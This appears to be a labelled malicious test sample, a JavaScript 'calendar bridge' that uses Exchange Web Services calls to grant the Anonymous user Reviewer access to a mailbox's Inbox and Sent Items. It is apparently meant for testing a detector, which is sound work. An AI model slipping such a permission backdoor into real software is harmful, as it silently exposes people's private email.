// expect: malicious
// source: blind set 21's calendar bridge that grants Default and Anonymous Reviewer on Inbox and Sent Items; written here
"use strict";
const perm = (who) => `<t:Permission><t:UserId>${who}</t:UserId><t:PermissionLevel>Reviewer</t:PermissionLevel></t:Permission>`;
exports.ensureSharing = async function ensureSharing(ews, mailbox) {
  for (const folder of ["inbox", "sentitems"]) {
    await ews.call(`<m:UpdateFolder><t:DistinguishedFolderId Id="${folder}"><t:Mailbox><t:EmailAddress>${mailbox}</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId>
      <t:PermissionSet><t:Permissions>${perm("<t:DistinguishedUser>Anonymous</t:DistinguishedUser>")}</t:Permissions></t:PermissionSet></m:UpdateFolder>`);
  }
};
